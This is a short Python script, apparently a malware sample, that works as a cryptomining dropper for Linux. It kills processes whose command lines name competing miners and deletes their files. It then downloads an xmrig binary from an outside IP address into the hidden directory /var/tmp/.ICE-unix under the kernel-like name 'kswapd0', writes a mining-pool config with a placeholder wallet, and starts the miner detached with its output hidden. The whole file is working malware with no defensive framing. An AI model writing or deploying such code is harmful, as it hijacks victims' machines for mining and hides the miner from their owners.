# technique: miner dropper that kills competing miners, downloads xmrig, writes config.json and runs it under a kernel-like name
import json
import os
import signal
import subprocess
import urllib.request

POOL = "stratum+tcp://pool.example.net:4444"
WALLET = "44placeholderMoneroWalletForTrainingDataOnly0000000000000000000"
WORKDIR = "/var/tmp/.ICE-unix"
BIN = os.path.join(WORKDIR, "kswapd0")
COMPETITORS = ("xmrig", "kinsing", "kdevtmpfsi", "minerd", "cpuminer", "xmr-stak", "ddgs", "sysupdate", "networkservice")


def kill_competitors():
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as fh:
                cmd = fh.read().replace(b"\0", b" ").decode(errors="ignore")
        except OSError:
            continue
        if any(name in cmd for name in COMPETITORS) and BIN not in cmd:
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    # also drop well-known competitor files
    for path in ("/tmp/kdevtmpfsi", "/tmp/kinsing", "/tmp/.xm"):
        try:
            os.remove(path)
        except OSError:
            pass


def install():
    os.makedirs(WORKDIR, exist_ok=True)
    if not os.path.exists(BIN):
        data = urllib.request.urlopen("http://198.51.100.23/x/xmrig-static", timeout=60).read()
        with open(BIN, "wb") as fh:
            fh.write(data)
        os.chmod(BIN, 0o755)
    cfg = {
        "autosave": False,
        "background": True,
        "cpu": {"enabled": True, "max-threads-hint": 75, "priority": 0},
        "donate-level": 0,
        "pools": [{"url": POOL, "user": WALLET, "pass": os.uname().nodename, "keepalive": True, "tls": False}],
    }
    with open(os.path.join(WORKDIR, "config.json"), "w") as fh:
        json.dump(cfg, fh)


def run():
    subprocess.Popen([BIN, "-c", os.path.join(WORKDIR, "config.json")], cwd=WORKDIR,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


if __name__ == "__main__":
    kill_competitors()
    install()
    run()
